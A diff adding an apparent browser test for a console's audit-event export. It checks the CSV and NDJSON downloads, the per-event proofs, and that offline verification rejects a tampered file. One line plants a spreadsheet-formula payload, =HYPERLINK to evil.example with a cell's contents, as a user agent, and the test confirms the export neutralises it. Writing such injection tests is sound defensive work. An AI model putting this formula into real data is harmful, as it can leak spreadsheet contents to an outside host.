@@ -325,6 +325,54 @@ describe('a tenant in the console', { skip: kiaviMissing() || chromiumMissing() 
     await look(page, '68-events-wrong-days');
   });
 
+  test('what was searched for is a file, with a proof of each event and without a formula', async () => {
+    ada.userAgent = '=HYPERLINK("https://evil.example?"&A1)';
+    await ada.signInByCode(email);
+    ada.userAgent = PHONE;
+    await page.goto(at(`/events?type=session.created&email=${encodeURIComponent(email)}&period=day`));
+    await page.locator('#export > summary').click();
+    await look(page, '68-events-export');
+    const folder = mkdtempSync(join(tmpdir(), 'kiavi-events-'));
+    const take = async (word) => {
+      const link = page.getByRole('link', { name: words(word), exact: true });
+      const coming = page.waitForEvent('download');
+      await link.click();
+      const asked = heading(page, 'prove-title').waitFor();
+      if (await Promise.race([coming.then(() => false), asked.then(() => true)])) {
+        await prove(owner);
+        await link.click();
+      }
+      const file = await coming;
+      await file.saveAs(join(folder, file.suggestedFilename()));
+      return [file.suggestedFilename(), readFileSync(join(folder, file.suggestedFilename()), 'utf8')];
+    };
+    const [name, table] = await take('users-export');
+    assert.match(name, /^demo-events-\d{4}-\d\d-\d\d-\d{4}-\d\d-\d\d\.csv$/);
+    const [head, ...rows] = table.trimEnd().split('\r\n');
+    assert.ok(head.startsWith('"index","id","type"'), head);
+    assert.ok(rows.length > 1 && rows.every((row) => row.split(',')[2] === '"session.created"'), table);
+    assert.ok(rows[0].includes(`,"'=HYPERLINK(""https://evil.example?""&A1)",`), rows[0]);
+    assert.ok(!/(^|,)"[=+\-@]/m.test(table), table);
+    const command = await page.locator('#export code').first().textContent();
+    const [lines, ...keys] = command.split(' ').slice(4);
+    for (;;) {
+      const [name, file] = await take('events-export-ndjson');
+      assert.equal(name, lines);
+      const [head, ...events] = file.trimEnd().split('\n').map((line) => JSON.parse(line));
+      assert.deepEqual([head.format, events.length], ['kiavi-audit-lines/1', rows.length]);
+      assert.ok(events.every((event) => event.type === 'session.created' && 'index' in event), file);
+      // What happened just now is sealed and cosigned within seconds.
+      if (events.every((event) => event.proof)) break;
+    }
+    const verify = ['audit', 'proof', 'verify', join(folder, lines), ...keys];
+    assert.match(await kiavi.verb(verify, { isOffline: true }), /^VERIFIED: each of the \d+ events is in /);
+    writeFileSync(join(folder, lines), readFileSync(join(folder, lines), 'utf8').replace('"success"', '"failure"'));
+    await assert.rejects(kiavi.verb(verify, { isOffline: true }), /NOT VERIFIED: line 2: /);
+    rmSync(folder, { recursive: true });
+    await page.goto(at('/events?type=log.exported'));
+    await row('log.exported').first().waitFor();
+  });
+
   test('a search is saved under a name, opened, renamed and deleted', async () => {
     await page.goto(at('/events?type=user.*&period=all&email=ada%40example.com'));
     await button(page, 'views-save').click();
